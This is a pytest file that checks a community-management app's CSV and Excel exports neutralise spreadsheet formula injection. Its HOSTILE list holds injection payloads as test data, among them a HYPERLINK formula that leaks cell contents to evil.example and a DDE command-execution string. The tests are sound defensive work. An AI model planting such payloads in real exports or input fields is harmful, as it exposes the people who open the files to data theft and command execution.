"""Exports (issue 14, finding 5): one helper writes every download; no formula survives in
any export, and an empty cell stays empty (the old guard turned it into a lone ')."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy.orm import Session

from db.models import SocialUnit
from services import leads, roster
from services.core.spreadsheet import FORMULA_START, csv_bytes, safe_cell, xlsx_bytes
from services.leads import InboxFilters
from services.stats import teams
from services.stats.export import csv_bytes as stats_csv
from services.stats.export import xlsx_bytes as stats_xlsx
from services.stats.periods import since_july
from tests import factories as f
from tests import stats_world as sw
from tests.leads_world import build as leads_world

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _formulas(data: bytes, fmt: str) -> list[str]:
    """Every cell a spreadsheet would run: formula cells in .xlsx, text starting with
    = + - @ tab CR in CSV (numbers such as -3 read as numbers, not formulas)."""
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        return [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" or (isinstance(c.value, str)
                                          and c.value.startswith(FORMULA_START)
                                          and not c.quotePrefix)]
    out = []
    for row in _csv_cells(data):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


def _lone_apostrophes(data: bytes, fmt: str) -> int:
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        return sum(c.value == "'" for ws in book.worksheets for r in ws.iter_rows() for c in r)
    return sum(cell == "'" for row in _csv_cells(data) for cell in row)


def test_the_helper_neutralises_formulas_and_leaves_empty_cells_alone() -> None:
    assert [safe_cell(v) for v in ["", None, 0, -3, "ok", "a=b"]] == ["", None, 0, -3, "ok",
                                                                      "a=b"]
    assert all(safe_cell(v) == "'" + v for v in HOSTILE)
    rows = [[v, "", None, -3] for v in HOSTILE]
    assert _formulas(csv_bytes(["h"] * 4, rows), "csv") == []
    assert _formulas(xlsx_bytes({"s": (["h"] * 4, rows)}), "xlsx") == []
    assert _lone_apostrophes(csv_bytes(["h"] * 4, rows), "csv") == 0
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"s": (["h"] * 4, rows)})))
    first = [c.value for c in next(book.active.iter_rows(min_row=2, max_row=2))]
    assert first[0] == HOSTILE[0] and first[3] == -3  # text kept exactly, a number a number


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_statistics_exports_carry_no_formula(session: Session, fmt: str) -> None:
    w = sw.build(session)
    team = f.team(session, w.a, name="=1+1")
    for name in HOSTILE:
        f.member(session, team, name=name)
    frame = teams.per_member(session, actor=w.supervisor, period=since_july(sw.TODAY))
    assert set(HOSTILE) <= set(frame["name"])  # the control: the names are in the table
    frame["empty"] = ""
    data = stats_csv(frame) if fmt == "csv" else stats_xlsx({"队员": frame})
    assert _formulas(data, fmt) == [] and _lone_apostrophes(data, fmt) == 0
    print(f"\nexports: statistics {fmt}, {len(frame)} rows, 0 formulas")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lead_exports_carry_no_formula_and_no_lone_apostrophe(session: Session,
                                                              fmt: str) -> None:
    w = leads_world(session)
    for text in HOSTILE:
        leads.report_lead(session, actor=w.grid1, category="other", urgency="routine",
                          description=text, address="", reporter_contact="")
    data, n = leads.export_leads(session, actor=w.supervisor, filters=InboxFilters(
        open_only=False), fmt=fmt)
    assert n == len(HOSTILE)
    assert _formulas(data, fmt) == [] and _lone_apostrophes(data, fmt) == 0


@pytest.mark.parametrize(("what", "fmt"), [("members", "csv"), ("members", "xlsx"),
                                           ("units", "csv"), ("units", "xlsx")])
def test_roster_exports_carry_no_formula_and_no_lone_apostrophe(
        session: Session, what: str, fmt: str) -> None:
    w = leads_world(session)
    for text in HOSTILE:
        f.member(session, w.team1, name=text)
        session.add(SocialUnit(community_id=w.c1.id, name=text, kind="shop",
                               contact_name=text, contact_phone="", services=[text]))
    session.flush()
    data, n = roster.export_roster(session, actor=w.officer1, what=what, fmt=fmt)
    assert n >= len(HOSTILE)
    assert _formulas(data, fmt) == [] and _lone_apostrophes(data, fmt) == 0


WRITERS = {"to_csv", "to_excel", "ExcelWriter", "Workbook", "writer", "DictWriter"}
# The import templates hold only the translated column names (no user text).
ALLOWED = {"services/core/spreadsheet.py", "services/roster/importfile.py"}


def test_every_download_goes_through_the_one_helper() -> None:
    """No module but services/core/spreadsheet.py writes CSV or Excel files."""
    offenders = []
    for path in [*ROOT.glob("services/**/*.py"), *ROOT.glob("ui/**/*.py"),
                 *ROOT.glob("pages/*.py")]:
        rel = path.relative_to(ROOT).as_posix()
        if rel in ALLOWED or rel.startswith("services/demo/"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = (node.func.attr if isinstance(node.func, ast.Attribute) else
                    getattr(node.func, "id", "")) if isinstance(node, ast.Call) else ""
            if name in WRITERS:
                offenders.append(f"{rel}:{node.lineno} {name}")
    assert offenders == []


def test_frames_keep_numbers_and_missing_values() -> None:
    frame = pd.DataFrame({"n": [1, 2], "x": [1.5, None], "s": ["=1", None]})
    assert _csv_cells(stats_csv(frame)) == [["n", "x", "s"], ["1", "1.5", "'=1"], ["2", "", ""]]
